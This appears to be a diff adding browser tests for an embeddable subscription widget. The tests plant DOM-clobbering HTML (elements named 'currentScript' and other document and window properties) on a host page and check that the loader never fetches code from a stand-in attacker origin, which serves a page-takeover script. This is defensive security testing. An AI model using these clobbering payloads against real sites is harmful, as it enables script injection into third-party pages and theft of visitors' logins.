@@ -1,0 +1,115 @@
+import { type Host, host } from '../../tools/sandbox/host';
+import type { Sandbox } from '../../tools/sandbox/sandbox';
+import { test as base, expect } from '../helpers/fixtures';
+import { text } from '../helpers/text';
+
+const nonce = 'r4nd0m';
+
+/** The policies that the guide for pages' developers names, and a page without one. */
+const policies = {
+  none: () => undefined,
+  'a list of hosts': ({ origin }: Sandbox) =>
+    `default-src 'self'; script-src ${origin}; style-src 'self'; connect-src ${origin}; frame-src ${origin}; require-trusted-types-for 'script'`,
+  'a nonce and hosts': ({ origin }: Sandbox) =>
+    `script-src ${origin} 'nonce-${nonce}'; object-src 'none'; require-trusted-types-for 'script'; trusted-types sub-elements`,
+  "'strict-dynamic'": () =>
+    `script-src 'nonce-${nonce}' 'strict-dynamic'; require-trusted-types-for 'script'; trusted-types 'none'`,
+} satisfies Record<string, (sandbox: Sandbox) => string | undefined>;
+
+const markup = {
+  'an image': (evil: string) => `<img name="currentScript" alt="" src="${evil}/v1/sub.js">`,
+  'an image with settings': (evil: string) =>
+    `<img name="currentScript" alt="" src="${evil}/v1/sub.js" data-api="${evil}" data-portal="${evil}" data-element="auth" nonce="${nonce}">`,
+  'an embed': (evil: string) => `<embed name="currentScript" src="${evil}/v1/sub.js">`,
+  'an object': (evil: string) => `<object id="currentScript" data="${evil}/v1/sub.js"></object>`,
+  'a form': (evil: string) =>
+    `<form name="currentScript" action="${evil}"><input name="src" value="${evil}/v1/sub.js"><input name="tagName" value="SCRIPT"><input name="dataset"></form>`,
+  'two of a name': (evil: string) =>
+    `<img name="currentScript" alt="" src="${evil}/v1/sub.js"><img name="currentScript" alt="" src="${evil}/v1/sub.js">`,
+  'other names of the document': (evil: string) =>
+    ['baseURI', 'URL', 'documentURI', 'domain', 'scripts', 'head', 'location', 'referrer']
+      .map((name) => `<img name="${name}" alt="" src="${evil}/v1/sub.js" data-api="${evil}">`)
+      .join(''),
+  'names of the window': (evil: string) =>
+    ['SubElements', 'sub-elements', 'page', 'script', 'assets', 'defaults', 'api', '__FILES__']
+      .map((name) => `<a id="${name}" name="${name}" href="${evil}/v1/" data-api="${evil}">.</a>`)
+      .join(''),
+} satisfies Record<string, (evil: string) => string>;
+
+/** An evil origin that keeps what it was asked for, and a partner's page whose visitors wrote HTML before the script. */
+const test = base.extend<{ asked: string[]; evil: Host; open(html: string, policy?: string): Promise<void> }>({
+  // biome-ignore lint/correctness/noEmptyPattern: playwright reads the fixtures a function wants from its pattern
+  asked: async ({}, use) => use([]),
+  evil: async ({ asked }, use) => {
+    const evil = await host((request, response) => {
+      // What an image or embed shows is its own business; nobody but us would ask for a script, a call or a page.
+      const kind = request.headers['sec-fetch-dest'];
+      if (!['image', 'embed', 'object'].includes(String(kind))) asked.push(`${kind} ${request.url}`);
+      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
+      response.end('document.title = "taken over"');
+    });
+    await use(evil);
+    await evil.close();
+  },
+  open: async ({ page, sandbox }, use) => {
+    let headers: Record<string, string> = {};
+    let body = '';
+    const partner = await host((_, response) => response.writeHead(200, headers).end(body));
+    await use(async (html, policy) => {
+      headers = { 'Content-Type': 'text/html', ...(policy && { 'Content-Security-Policy': policy }) };
+      body = `<!doctype html><html lang="en"><title>Comments</title><body>${html}
+        <script src="${sandbox.origin}/v1/sub.js" nonce="${nonce}"></script><sub-plans></sub-plans></body></html>`;
+      await page.goto(`${partner.origin}/`);
+    });
+    await partner.close();
+  },
+});
+
+/** Tried under every policy each time; the others under all of them in the full run. */
+const always = ['an image with settings'];
+
+for (const [policyName, policyOf] of Object.entries(policies)) {
+  for (const [name, markupOf] of Object.entries(markup)) {
+    const tags = policyName === 'none' || always.includes(name) ? '@desktop' : '@desktop @full';
+    test(`${name} named after a property can't redirect the loader, policy: ${policyName} ${tags}`, async ({
+      page,
+      sandbox,
+      asked,
+      evil,
+      open,
+    }) => {
+      await open(markupOf(evil.origin), policyOf(sandbox));
+      await expect(page.getByText(text('en', 'plans:duration.legend'))).toBeVisible();
+      await page.getByRole('button', { name: text('en', 'plans:continue'), exact: true }).click();
+      await expect(page.getByLabel(text('en', 'auth:password.label'), { exact: true })).toBeVisible();
+      expect(asked).toEqual([]);
+      await expect(page).toHaveTitle('Comments');
+    });
+  }
+}
+
+test('the evil origin of these tests would notice a script that is loaded from it @desktop', async ({
+  page,
+  asked,
+  evil,
+  open,
+}) => {
+  await open(`<script src="${evil.origin}/v1/sub.js"></script>`);
+  await expect(page).toHaveTitle('taken over');
+  expect(asked).toEqual(['script /v1/sub.js']);
+});
+
+test('a script that a module loader runs under a defined currentScript still finds itself @desktop', async ({
+  page,
+  sandbox,
+}) => {
+  await page.goto(sandbox.pagesOrigin);
+  await page.evaluate(async (src) => {
+    document.body.replaceChildren(document.createElement('sub-plans'));
+    const code = await (await fetch(src)).text();
+    const script = Object.assign(document.createElement('script'), { type: 'text/plain', src });
+    Object.defineProperty(document, 'currentScript', { configurable: true, get: () => script });
+    new Function(code)();
+  }, `${sandbox.origin}/v1/sub.js`);
+  await expect(page.getByText(text('en', 'plans:duration.legend'))).toBeVisible();
+});
